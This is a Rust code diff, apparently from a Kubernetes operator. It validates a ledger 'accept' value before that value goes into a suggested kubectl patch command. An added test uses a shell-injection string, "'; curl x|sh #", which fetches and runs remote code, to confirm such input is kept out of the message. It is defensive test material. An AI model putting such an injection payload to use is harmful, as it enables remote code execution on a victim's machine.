@@ -77,7 +77,8 @@ fn mismatch(tenant: &ValidTenant, report: &LedgerReport) -> String {
     let message = report.message.as_deref();
     let message = message.unwrap_or("the ledger is not the one that was expected");
     let told = format!("nothing is changed: {message}; bring the right one back");
-    let Some(word) = &report.accept else {
+    let word = report.accept.as_ref();
+    let Some(word) = word.filter(|word| LedgerMark::is_acceptance(word)) else {
         return told;
     };
     let (name, namespace) = (&tenant.owner.name, &tenant.namespace);
@@ -199,6 +200,15 @@ mod tests {
             accept: Some("0123456789abcdef".into()),
             ..ledger(LedgerState::Mismatch, &mark)
         };
+        // What is no word is not pasted into anybody's shell.
+        let other = LedgerReport {
+            accept: Some("'; curl x|sh #".into()),
+            ..mismatch.clone()
+        };
+        assert_eq!(
+            found(other),
+            "False/LedgerMismatch: nothing is changed: the ledger that was found is empty; bring the right one back"
+        );
         assert_eq!(
             found(mismatch),
             r#"False/LedgerMismatch: nothing is changed: the ledger that was found is empty; bring the right one back, or accept this one, after which every window of a policy is full for its length and earlier idempotency keys are expired: kubectl patch mcptenant acme --namespace acme --type merge --patch '{"spec":{"ledger":{"accept":"0123456789abcdef"}}}'"#
